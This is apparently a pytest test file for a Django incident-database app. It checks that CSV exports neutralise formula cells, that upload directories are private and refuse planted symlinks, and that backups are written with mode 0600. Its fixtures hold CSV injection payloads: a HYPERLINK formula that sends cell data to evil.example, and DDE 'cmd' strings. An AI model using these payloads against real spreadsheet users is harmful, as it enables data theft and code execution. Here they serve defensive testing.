"""Issue #12, finding 9 (part): CSV formula injection, the upload directory, backup file modes."""
import csv
import io
import os
import stat
import tempfile
import time
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.test import Client
from django.urls import reverse

from core.backups import BackupError, backup
from incidents.models import Actor, Incident
from incidents.services.exporters import export_incidents, neutralise_cell, restore_cell
from incidents.services.importers.files import import_file
from incidents.services.workflow import OPERATOR
from tests.factories import make_actor, make_incident, member

pytestmark = pytest.mark.django_db
FIXTURES = Path(__file__).resolve().parent.parent / "fixtures"

# An Editor types these; an analyst opens the CSV in a spreadsheet.
TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the full report")'
NOTES = "+cmd|' /C calc'!A0"
PLACE = "@SUM(1+1)*cmd|' /C calc'!A0"
ACTOR = "-2+3 Militia"


@pytest.fixture
def hostile():
    """One published incident whose text cells all start like formulas, and one whose title
    already starts with an apostrophe and '=' (it must come back exactly, too)."""
    make_incident(title=TITLE, description=NOTES, location_name=PLACE, actors=[make_actor(ACTOR)])
    make_incident(title="'=1+1 is not a formula here", description="-5 soldiers, say the notes",
                  location_name="Pichari")


def rows_of(text: str) -> list[dict]:
    return sorted(csv.DictReader(io.StringIO(text)), key=lambda r: r["title"])


def test_neutralise_and_restore_are_exact_inverses_and_leave_numbers_alone():
    for text in ["=1+1", "+1", "-x", "@x", "\tx", "\rx", "'=x", "''@x", "'", "''", "", "plain",
                 "it's", "'quoted'", "-"]:
        assert restore_cell(neutralise_cell(text)) == text
    assert [neutralise_cell(t) for t in ["=1+1", "'=x", "plain", "'quoted'"]] == [
        "'=1+1", "''=x", "plain", "'quoted'"]
    assert neutralise_cell(-73.83) == -73.83 and neutralise_cell(-3) == -3  # numbers stay numbers


def test_the_csv_export_neutralises_formula_cells_but_not_numbers(hostile, tmp_path):
    path = tmp_path / "out.csv"
    export_incidents(path=str(path), format="csv")
    quoted, other = rows_of(path.read_text(encoding="utf-8"))
    assert (quoted["title"], quoted["notes"], quoted["location"]) == (
        "''=1+1 is not a formula here", "'-5 soldiers, say the notes", "Pichari")
    assert (other["title"], other["notes"], other["location"], other["actor1"]) == (
        "'" + TITLE, "'" + NOTES, "'" + PLACE, "'" + ACTOR)
    # Coordinates are numbers: written as such, a negative longitude keeps its minus sign.
    assert (other["longitude"], other["latitude"]) == ("-73.8290288969999", "-12.5195740239999")


def test_the_api_csv_download_neutralises_formula_cells_too(hostile, api):
    response = api.get("/api/v1/incidents/", {"format": "csv", "hxl": "true"})
    text = b"".join(response.streaming_content).decode()
    rows = rows_of(text)
    hxl = next(r for r in rows if r["event_id_cnty"].startswith("#"))
    assert hxl["longitude"] == "#geo+lon"  # the HXL tags are not touched
    other = next(r for r in rows if r["title"].startswith("'=HYPER"))
    assert (other["title"], other["notes"], other["location"], other["actor1"]) == (
        "'" + TITLE, "'" + NOTES, "'" + PLACE, "'" + ACTOR)
    assert other["longitude"] == "-73.8290288969999"


@pytest.mark.parametrize("via", ["command", "api"])
def test_a_neutralised_csv_export_imports_back_exactly(hostile, tmp_path, api, via):
    path = tmp_path / "out.csv"
    if via == "command":
        call_command("export_incidents", format="csv", output=str(path))
    else:
        response = api.get("/api/v1/incidents/", {"format": "csv"})
        path.write_bytes(b"".join(response.streaming_content))
    before = sorted(Incident.objects.values_list("title", "description", "location_name"))
    Incident.objects.all().delete()
    Actor.objects.all().delete()
    summary = import_file(user=OPERATOR, path=str(path), format="acled")
    assert (summary.created, summary.skipped) == (2, [])
    assert sorted(Incident.objects.values_list("title", "description", "location_name")) == before
    assert list(Actor.objects.values_list("name", flat=True)) == [ACTOR]


def test_export_refuses_a_url_or_vsi_output(tmp_path):
    with pytest.raises(CommandError, match="--output: '/vsimem/x.gpkg' is a URL or a GDAL"):
        call_command("export_incidents", format="gpkg", output="/vsimem/x.gpkg")


# The admin import's upload directory -----------------------------------------------------------


@pytest.fixture
def usual_umask():
    """The umask most accounts have (022), under which a file created without an explicit mode is 0644."""
    old = os.umask(0o022)
    yield
    os.umask(old)


@pytest.fixture
def private_tmp(tmp_path, monkeypatch) -> Path:
    """tempfile.gettempdir() is a fresh directory for the test (the real /tmp is shared)."""
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    return tmp_path


def upload_as_editor():
    client = Client(HTTP_ACCEPT_LANGUAGE="en")  # the admin in English (Spanish is the default, #14)
    client.force_login(member("editor"))
    with open(FIXTURES / "acled_small.csv", "rb") as f:
        data = f.read()
    return client.post(reverse("admin:incidents_incident_import"),
                       {"file": SimpleUploadedFile("small.csv", data), "format": "acled"})


def test_the_upload_directory_is_created_private_and_uploads_are_0600(private_tmp, usual_umask):
    response = upload_as_editor()
    assert response.status_code == 200 and "Preview of small.csv" in response.content.decode()
    directory = private_tmp / f"vraem-imports-{os.getuid()}"
    info = directory.lstat()
    assert stat.S_ISDIR(info.st_mode) and stat.S_IMODE(info.st_mode) == 0o700
    assert info.st_uid == os.getuid()
    [upload] = directory.iterdir()
    assert stat.S_IMODE(upload.stat().st_mode) == 0o600
    assert upload.suffix == ".acled"  # named by the chosen format, not by the upload's name


def test_a_planted_symlink_is_not_followed(private_tmp):
    """Another local account plants /tmp/vraem-imports-<uid> -> a directory of ours (here one
    holding an 'old' file, as ~/.ssh would): the upload is refused, nothing there is deleted
    and nothing is written there."""
    target = private_tmp / "victim"
    target.mkdir(mode=0o700)
    precious = target / "authorized_keys"
    precious.write_text("ssh-ed25519 AAAA… admin\n")
    seven_hours_ago = time.time() - 7 * 3600
    os.utime(precious, (seven_hours_ago, seven_hours_ago))
    (private_tmp / f"vraem-imports-{os.getuid()}").symlink_to(target)
    response = upload_as_editor()
    assert [p.name for p in target.iterdir()] == ["authorized_keys"]
    assert response.status_code == 503
    assert "is not a directory (a symbolic link?); remove it" in response.content.decode()


@pytest.mark.parametrize("planted", ["file", "open-directory"])
def test_a_planted_file_or_shared_directory_is_refused(private_tmp, planted):
    path = private_tmp / f"vraem-imports-{os.getuid()}"
    if planted == "file":
        path.write_text("not a directory")
    else:
        path.mkdir()
        path.chmod(0o777)
    response = upload_as_editor()
    assert response.status_code == 503
    assert ("is not a directory" if planted == "file" else "mode 777); remove it") in \
        response.content.decode()


# Backups ---------------------------------------------------------------------------------------


def test_a_backup_is_written_0600(tmp_path, usual_umask):
    fresh, existing = tmp_path / "fresh.dump", tmp_path / "existing.dump"
    existing.write_text("an older backup")
    existing.chmod(0o644)
    for path in (fresh, existing):
        call_command("backup_database", output=str(path))
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
        assert path.read_bytes().startswith(b"PGDMP")  # a custom-format dump


def test_a_backup_does_not_follow_a_planted_symlink(tmp_path, usual_umask):
    target = tmp_path / "elsewhere"
    target.write_text("not to be overwritten")
    link = tmp_path / "backup.dump"
    link.symlink_to(target)
    with pytest.raises(BackupError, match="cannot write"):
        backup(str(link))
    assert target.read_text() == "not to be overwritten"
